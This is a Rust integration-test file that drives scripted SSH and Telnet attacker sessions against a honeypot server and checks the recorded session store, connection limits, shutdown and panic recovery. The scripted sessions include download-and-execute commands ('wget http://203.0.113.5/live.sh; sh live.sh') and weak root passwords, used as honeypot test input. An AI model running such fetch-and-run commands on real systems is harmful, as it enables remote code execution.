//! Live-socket integration tests: real TCP clients against a running
//! [`serve::Server`], with the resulting store read back through
//! `sessiondb`.

use honeypot::wire::{run_telnet_session, run_wire_session, WireSessionMeta};
use honeypot::{AuthPolicy, SessionRecord};
use serve::{fold_peer_ip, ChaosConfig, Gate, ServeConfig, ServeStats, Server};
use sshwire::{ClientScript, SshClient};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};
use telwire::{TelnetClient, TelnetScript};

fn temp_store(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("serve-live-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// The one payload the live scripts download.
const PAYLOAD_URI: &str = "http://203.0.113.5/live.sh";

/// The download store of the live-vs-wire tests: serves [`PAYLOAD_URI`].
fn payloads(uri: &str) -> Option<Vec<u8>> {
    (uri == PAYLOAD_URI).then(|| b"#!/bin/sh\necho live\n".to_vec())
}

/// Identity for the in-memory dialogues; the comparison leaves out the
/// fields it stamps.
fn wire_meta() -> WireSessionMeta {
    WireSessionMeta {
        honeypot_id: 0,
        honeypot_ip: netsim::Ipv4Addr::from_octets(100, 64, 0, 1),
        client_ip: netsim::Ipv4Addr::from_octets(127, 0, 0, 1),
        client_port: 40000,
        start: hutil::Date::new(2024, 1, 1).at_midnight(),
    }
}

/// Every record in the store at `dir`, CRC-checked.
fn read_store(dir: &Path) -> Vec<SessionRecord> {
    let store = sessiondb::Store::open(dir).expect("open store");
    store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs")
}

/// A served record must carry what the in-memory wire dialogue records for
/// the same script and download store: the handler and the conversion
/// are one.
fn assert_live_equals_wire(live: &SessionRecord, wire: &SessionRecord) {
    assert_eq!(live.protocol, wire.protocol);
    assert_eq!(live.client_version, wire.client_version);
    assert_eq!(live.logins, wire.logins);
    assert_eq!(live.commands, wire.commands);
    assert_eq!(live.uris, wire.uris);
    assert_eq!(live.file_events, wire.file_events);
}

fn read_step(stream: &mut TcpStream, buf: &mut [u8]) -> Option<usize> {
    match stream.read(buf) {
        Ok(0) => Some(0),
        Ok(n) => Some(n),
        Err(e)
            if e.kind() == std::io::ErrorKind::WouldBlock
                || e.kind() == std::io::ErrorKind::TimedOut =>
        {
            None
        }
        Err(e) => panic!("client read failed: {e}"),
    }
}

/// Plays one scripted SSH session over a real socket.
fn drive_ssh(addr: SocketAddr, script: ClientScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    stream.set_nodelay(true).ok();
    let mut client = SshClient::new(script, b"live-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(30);
    while !client.is_closed() {
        assert!(Instant::now() < deadline, "client dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        if let Some(n) = read_step(&mut stream, &mut buf) {
            if n == 0 {
                break;
            }
            client.input(&buf[..n]).expect("client protocol");
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
}

/// Plays one scripted Telnet session over a real socket.
fn drive_telnet(addr: SocketAddr, script: TelnetScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    let mut client = TelnetClient::new(script);
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(30);
    while !client.is_done() {
        assert!(Instant::now() < deadline, "telnet dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        if let Some(n) = read_step(&mut stream, &mut buf) {
            if n == 0 {
                break;
            }
            client.input(&buf[..n]).expect("client protocol");
        }
    }
}

#[test]
fn ssh_sessions_round_trip_to_store() {
    let dir = temp_store("ssh-round-trip");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 4,
        stats_interval: None,
        rows_per_segment: 4, // several segments from 10 sessions
        ..ServeConfig::default()
    };
    let handle = Server::start_with_store(cfg, Arc::new(payloads)).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let script = |i: u64| {
        ClientScript::new(
            "root",
            &["root", "admin"],
            &[
                &format!("echo probe-{i}"),
                "uname -a",
                &format!("cd /tmp; wget {PAYLOAD_URI}"),
            ],
        )
    };
    let n = 10;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || drive_ssh(addr, script(i)));
        }
    });

    // Sessions complete asynchronously after the client hangs up.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, n, "all sessions recorded");
    assert_eq!(report.snapshot.shed_capacity, 0);
    assert_eq!(report.snapshot.shed_per_ip, 0);
    assert_eq!(report.ingest.accepted, n);
    assert_eq!(report.quarantined, 0);
    assert!(report.snapshot.bytes_in > 500 * n, "real bytes moved");

    // CRC-checked read-back through the columnar store.
    let recs = read_store(&dir);
    assert_eq!(recs.len(), n as usize);
    for rec in &recs {
        assert_eq!(rec.protocol, honeypot::Protocol::Ssh);
        assert!(rec.login_succeeded(), "root/admin is accepted");
        assert_eq!(rec.logins.len(), 2);
        assert_eq!(rec.commands.len(), 3);
        assert!(rec
            .client_version
            .as_deref()
            .unwrap_or("")
            .starts_with("SSH-2.0"));
        assert!(rec.end >= rec.start);
        // Live == wire, record by record: the script is known by its
        // first command.
        let i = rec.commands[0]
            .input
            .strip_prefix("echo probe-")
            .and_then(|i| i.parse().ok())
            .expect("a scripted first command");
        let (wire, _) = run_wire_session(&wire_meta(), script(i), AuthPolicy::default(), &payloads)
            .expect("in-memory dialogue");
        assert_live_equals_wire(rec, &wire);
        assert_eq!(rec.uris, [PAYLOAD_URI], "the download is recorded");
    }
    // Dense ids, one per session.
    let mut ids: Vec<u64> = recs.iter().map(|r| r.session_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, (0..n).collect::<Vec<_>>());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn telnet_sessions_are_served_too() {
    let dir = temp_store("telnet");
    let cfg = ServeConfig {
        ssh_port: None,
        telnet_port: Some(0),
        store_dir: Some(dir.clone()),
        workers: 2,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start_with_store(cfg, Arc::new(payloads)).expect("start");
    let addr = handle.addrs().telnet.expect("telnet addr");

    let script = TelnetScript {
        logins: vec![
            ("root".into(), "root".into()), // rejected by policy
            ("root".into(), "hunter2".into()),
        ],
        commands: vec![
            "cd /tmp".into(),
            "id".into(),
            format!("wget {PAYLOAD_URI}; sh live.sh"),
        ],
    };
    drive_telnet(addr, script.clone());

    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1);
    assert_eq!(report.ingest.accepted, 1);

    let recs = read_store(&dir);
    assert_eq!(recs.len(), 1);
    let (wire, _) = run_telnet_session(&wire_meta(), script, AuthPolicy::default(), &payloads)
        .expect("in-memory dialogue");
    assert_live_equals_wire(&recs[0], &wire);
    assert_eq!(recs[0].uris, [PAYLOAD_URI], "the download is recorded");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn per_ip_limit_sheds_at_accept_time() {
    let cfg = ServeConfig {
        per_ip_limit: 1,
        workers: 1,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // First connection is admitted: the server banner proves a shard owns
    // it.
    let mut first = TcpStream::connect(addr).expect("connect");
    first
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut buf = [0u8; 256];
    let n = first.read(&mut buf).expect("banner");
    assert!(n > 0, "admitted connection gets the SSH banner");

    // Second connection from the same IP is shed before any protocol
    // state: the socket closes without a banner.
    let mut second = TcpStream::connect(addr).expect("connect");
    second
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    match second.read(&mut buf) {
        Ok(0) => {}
        Ok(_) => panic!("shed connection must not receive a banner"),
        Err(e) => panic!("expected clean close, got {e}"),
    }

    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.stats().shed_per_ip < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.stats().shed_per_ip, 1);
    drop(first);
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.shed_per_ip, 1);
    assert_eq!(report.snapshot.shed_capacity, 0);
}

#[test]
fn idle_connections_time_out_and_are_recorded() {
    let cfg = ServeConfig {
        idle_timeout: Duration::from_millis(150),
        workers: 1,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // Connect and go silent — a port scanner, in effect.
    let stream = TcpStream::connect(addr).expect("connect");
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1);
    assert_eq!(
        report.snapshot.timed_out, 1,
        "idle session ends via timeout"
    );
    drop(stream);
}

#[test]
fn graceful_shutdown_drains_in_flight_sessions() {
    let dir = temp_store("drain");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 2,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // Start a client, get mid-handshake, then trigger shutdown while it
    // is still in flight: the session must complete, not be cut off.
    let t = std::thread::spawn(move || {
        let script = ClientScript::new("root", &["admin"], &["uname -a"]);
        drive_ssh(addr, script);
    });
    // Wait until the connection is admitted.
    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.stats().accepted < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(1));
    }
    handle.trigger_shutdown();
    t.join().expect("client finished");
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1, "in-flight session drained");
    assert_eq!(report.ingest.accepted, 1);

    let store = sessiondb::Store::open(&dir).expect("open store");
    let recs: Vec<_> = store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs");
    assert_eq!(recs.len(), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Shutdown closes the listeners right away: a fresh connect is refused
/// within 2 s, while a session that was already in flight still
/// completes and reaches the store.
#[test]
fn shutdown_refuses_new_connects_but_drains_in_flight_sessions() {
    let dir = temp_store("refuse");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 2,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // In flight: admitted (banner read) but the dialogue not yet begun.
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut banner = [0u8; 256];
    let banner_len = stream.read(&mut banner).expect("banner");
    assert!(banner_len > 0);
    handle.trigger_shutdown();

    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        match TcpStream::connect(addr) {
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionRefused => break,
            _ => {
                assert!(
                    Instant::now() < deadline,
                    "listener still open 2 s after shutdown"
                );
                std::thread::sleep(Duration::from_millis(10));
            }
        }
    }

    // Finish the in-flight dialogue on the socket the banner came from.
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    let mut client = SshClient::new(
        ClientScript::new("root", &["admin"], &["uname -a"]),
        b"refuse-test-nonce".to_vec(),
    );
    client
        .input(&banner[..banner_len])
        .expect("client protocol");
    let mut buf = [0u8; 8192];
    let stall = Instant::now() + Duration::from_secs(10);
    while !client.is_closed() {
        assert!(Instant::now() < stall, "in-flight dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        match read_step(&mut stream, &mut buf) {
            Some(0) => break,
            Some(n) => client.input(&buf[..n]).expect("client protocol"),
            None => {}
        }
    }
    drop(stream);

    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1, "in-flight session drained");
    assert_eq!(report.snapshot.timed_out, 0);
    assert_eq!(report.ingest.accepted, 1);
    let store = sessiondb::Store::open(&dir).expect("open store");
    let recs: Vec<_> = store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs");
    assert_eq!(recs.len(), 1);
    assert_eq!(recs[0].commands.len(), 1, "the dialogue ran to the end");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Both listeners on two shards at once: every shard accepts from both,
/// and every session completes without a shed.
#[test]
fn two_shards_serve_ssh_and_telnet_side_by_side() {
    let cfg = ServeConfig {
        workers: 2,
        telnet_port: Some(0),
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let ssh = handle.addrs().ssh.expect("ssh addr");
    let telnet = handle.addrs().telnet.expect("telnet addr");
    let per_proto = 6u64;
    std::thread::scope(|scope| {
        for i in 0..per_proto {
            scope.spawn(move || {
                let script = ClientScript::new("root", &["admin"], &[&format!("echo mixed-{i}")]);
                drive_ssh(ssh, script);
            });
            scope.spawn(move || {
                let script = TelnetScript {
                    logins: vec![("root".into(), "hunter2".into())],
                    commands: vec![format!("echo mixed-{i}")],
                };
                drive_telnet(telnet, script);
            });
        }
    });
    let n = 2 * per_proto;
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.accepted, n);
    assert_eq!(report.snapshot.completed, report.snapshot.accepted);
    assert_eq!(
        report.snapshot.shed_capacity + report.snapshot.shed_per_ip,
        0
    );
    assert_eq!(report.ingest.accepted, n);
}

/// Connects and reads until the server hangs up, tolerating every
/// error: chaos tests kill connections (or whole shards) mid-dialogue,
/// and the client must not care how its socket died.
fn drive_tolerant(addr: SocketAddr, script: ClientScript) {
    let Ok(mut stream) = TcpStream::connect(addr) else {
        return;
    };
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .ok();
    let mut client = SshClient::new(script, b"chaos-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(10);
    while !client.is_closed() && Instant::now() < deadline {
        let out = client.take_output();
        if !out.is_empty() && stream.write_all(&out).is_err() {
            return;
        }
        match stream.read(&mut buf) {
            Ok(0) => return,
            Ok(n) => {
                if client.input(&buf[..n]).is_err() {
                    return;
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return,
        }
    }
}

#[test]
fn distinct_v6_peers_occupy_distinct_gate_slots() {
    use std::net::{IpAddr, Ipv6Addr};
    let gate = std::sync::Arc::new(Gate::new(16, 1));
    let stats = std::sync::Arc::new(ServeStats::default());
    let a = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)));
    let b = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 2)));
    assert_ne!(a, b, "distinct v6 peers fold to distinct slots");
    let pa = gate.admit(a, &stats).expect("first v6 peer admitted");
    let pb = gate
        .admit(b, &stats)
        .expect("second v6 peer has its own per-IP slot");
    assert!(
        gate.admit(a, &stats).is_err(),
        "same v6 peer again hits its per-IP limit"
    );
    assert_eq!(gate.active(), 2);
    drop(pa);
    drop(pb);
    assert_eq!(gate.active(), 0, "permits release their slots on drop");
}

#[test]
fn injected_connection_panics_are_contained() {
    let cfg = ServeConfig {
        workers: 2,
        stats_interval: None,
        chaos: ChaosConfig {
            conn_panic_rate: 1.0, // every connection's pump panics
            shard_panic_rate: 0.0,
            seed: 7,
        },
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let n = 6u64;
    for i in 0..n {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo doomed-{i}")]);
        drive_tolerant(addr, script);
    }

    // Every pump panicked; every panic was contained inside its shard.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().panics_caught < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.stats().panics_caught, n);
    assert_eq!(
        handle.stats().shards_respawned,
        0,
        "contained panics never kill a shard"
    );

    // The gate leaks nothing: active drains to zero.
    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.active(), 0, "permits released despite panics");

    let report = handle.join().expect("shard threads survived");
    assert_eq!(report.snapshot.accepted, n);
    assert_eq!(report.snapshot.panics_caught, n);
    assert_eq!(
        report.ingest.accepted, n,
        "each panicked connection is still recorded as a failed session"
    );
    assert_eq!(report.quarantined, 0);
    assert!(report.shard_panics.is_empty());
}

#[test]
fn injected_shard_panics_respawn_and_keep_serving() {
    let cfg = ServeConfig {
        workers: 2,
        stats_interval: None,
        chaos: ChaosConfig {
            conn_panic_rate: 0.0,
            shard_panic_rate: 0.5, // intake roulette: whole shard dies
            seed: 42,
        },
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let n = 24u64;
    for i in 0..n {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo roulette-{i}")]);
        drive_tolerant(addr, script);
    }

    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().shards_respawned == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert!(
        handle.stats().shards_respawned >= 1,
        "at 50% intake roulette over {n} connections at least one shard died"
    );
    assert_eq!(
        handle.stats().accepted,
        n,
        "the server kept accepting through every shard death"
    );

    // Respawned shards still serve: two more clients land on both shards
    // (round-robin) and are accepted.
    for i in 0..2 {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo after-{i}")]);
        drive_tolerant(addr, script);
    }
    assert_eq!(handle.stats().accepted, n + 2);

    // Every gate slot comes home, even those queued to a shard that died.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(
        handle.active(),
        0,
        "no gate slot leaked across shard deaths"
    );

    let report = handle.join().expect("supervised server joins cleanly");
    let respawns = report.snapshot.shards_respawned;
    assert!(respawns >= 1);
    assert!(
        report.shard_panics.len() as u64 >= respawns,
        "every shard death is reported"
    );
    for p in &report.shard_panics {
        assert!(
            p.contains("chaos: injected shard panic"),
            "panic message surfaces verbatim: {p}"
        );
    }
}

/// A connection that goes silent mid-handshake must not stall anyone
/// else on its shard. With one worker shard, the reactor parks the
/// stalled socket on epoll and keeps pumping its siblings; the old
/// polling loop also passed this (it skipped unreadable sockets), but
/// the reactor variant would deadlock outright if readiness handling
/// regressed to blocking per-connection I/O.
#[test]
fn stalled_connection_cannot_block_siblings() {
    let cfg = ServeConfig {
        workers: 1,
        stats_interval: None,
        idle_timeout: Duration::from_secs(30),
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // The staller: sends a *partial* version banner (no newline), then
    // nothing. The server must hold it open, waiting for the rest.
    let mut staller = TcpStream::connect(addr).expect("staller connect");
    staller.write_all(b"SSH-2.0-half").expect("partial banner");
    std::thread::sleep(Duration::from_millis(50));

    // Five normal sessions ride the same single shard and must all
    // complete while the staller sits there.
    let n = 5u64;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || {
                let script = ClientScript::new("root", &["admin"], &[&format!("echo sibling-{i}")]);
                drive_ssh(addr, script);
            });
        }
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(
        handle.stats().completed,
        n,
        "siblings completed while a connection stalled on the only shard"
    );
    // The staller is still admitted (not timed out, not dropped).
    assert_eq!(handle.active(), 1, "staller still holds its slot");
    drop(staller);
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(handle.active(), 0, "staller's slot came home after close");
    handle.join().expect("join");
}
